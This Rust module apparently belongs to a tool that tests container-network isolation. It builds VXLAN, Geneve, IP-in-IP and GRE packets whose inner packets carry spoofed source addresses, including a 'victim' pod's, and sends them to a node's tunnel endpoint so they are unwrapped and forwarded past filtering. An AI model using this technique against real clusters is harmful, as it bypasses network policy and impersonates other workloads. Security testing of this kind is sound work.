//! What is inside another packet: the node opens it and sends it on, if nobody looks.

use std::{
    io,
    net::{IpAddr, SocketAddr},
};

use socket2::{Domain, Protocol, Socket, Type};

use crate::{
    Technique,
    attack::{Attack, Outcome},
    packet::{self, protocol},
    raw, sys,
};

pub const TECHNIQUES: &[Technique] = &[
    ("vxlan", vxlan),
    ("vxlan-fragments", vxlan_fragments),
    ("geneve", geneve),
    ("ip-in-ip", ip_in_ip),
    ("gre", gre),
];

/// Number of the node's virtual network.
const NETWORK: [u8; 3] = [0, 0, 7];

/// What is inside: from the own address, and from a granted pod's.
fn inner(attack: &Attack) -> Vec<Vec<u8>> {
    let mut packets = raw::messages(attack, attack.from);
    if let Some(victim) = attack.victim {
        packets.extend(raw::messages(attack, victim));
    }
    packets
}

/// Sends datagrams to the tunnel's end, from a socket that needs no right.
fn datagrams(attack: &Attack, payloads: &[Vec<u8>]) -> io::Result<Outcome> {
    let to: SocketAddr = (attack.needed_via()?, attack.via_port).into();
    let socket = Socket::new(Domain::for_address(to), Type::DGRAM, None)?;
    socket.set_broadcast(true)?;
    // As large as the path allows is not asked: parts are welcome.
    let (level, name) = if to.is_ipv4() {
        (libc::IPPROTO_IP, libc::IP_MTU_DISCOVER)
    } else {
        (libc::IPPROTO_IPV6, libc::IPV6_MTU_DISCOVER)
    };
    sys::set_number(&socket, level, name, libc::IP_PMTUDISC_DONT)?;
    for payload in payloads {
        socket.send_to(payload, &to.into())?;
    }
    Ok(Outcome::Sent)
}

fn vxlan(attack: &Attack) -> io::Result<Outcome> {
    in_vxlan(attack, &inner(attack))
}

/// So large that the outer packet comes in parts.
fn vxlan_fragments(attack: &Attack) -> io::Result<Outcome> {
    let mut payload = Vec::new();
    while payload.len() < 1430 {
        payload.extend(&attack.token);
    }
    let ends = ((attack.from, attack.source_port), (attack.to, attack.port));
    let message = packet::udp(ends.0, ends.1, &payload);
    let inside = packet::ip(attack.from, attack.to, protocol::UDP, &message);
    in_vxlan(attack, &[inside])
}

fn in_vxlan(attack: &Attack, inside: &[Vec<u8>]) -> io::Result<Outcome> {
    let payloads: Vec<Vec<u8>> = inside
        .iter()
        .map(|inside| {
            let frame = packet::frame(attack.next_hop, [2, 0, 0, 0, 0, 1], inside);
            [&[8, 0, 0, 0][..], &NETWORK, &[0], &frame].concat()
        })
        .collect();
    datagrams(attack, &payloads)
}

fn geneve(attack: &Attack) -> io::Result<Outcome> {
    let payloads: Vec<Vec<u8>> = inner(attack)
        .iter()
        .map(|inside| {
            let frame = packet::frame(attack.next_hop, [2, 0, 0, 0, 0, 1], inside);
            [&[0, 0, 0x65, 0x58][..], &NETWORK, &[0], &frame].concat()
        })
        .collect();
    datagrams(attack, &payloads)
}

/// IP straight in IP, by a raw socket of the protocol.
fn ip_in_ip(attack: &Attack) -> io::Result<Outcome> {
    let number = if attack.to.is_ipv4() {
        protocol::IPIP
    } else {
        protocol::IPV6
    };
    protocol_packets(attack, number, &inner(attack))
}

fn gre(attack: &Attack) -> io::Result<Outcome> {
    let kind: u16 = if attack.to.is_ipv4() { 0x0800 } else { 0x86dd };
    let payloads: Vec<Vec<u8>> = inner(attack)
        .iter()
        .map(|inside| [&[0, 0][..], &kind.to_be_bytes(), inside].concat())
        .collect();
    protocol_packets(attack, protocol::GRE, &payloads)
}

fn protocol_packets(attack: &Attack, number: u8, payloads: &[Vec<u8>]) -> io::Result<Outcome> {
    let via: IpAddr = attack.needed_via()?;
    let to = SocketAddr::new(via, 0);
    let socket = Socket::new(
        Domain::for_address(to),
        Type::RAW,
        Some(Protocol::from(i32::from(number))),
    )?;
    for payload in payloads {
        socket.send_to(payload, &to.into())?;
    }
    Ok(Outcome::Sent)
}
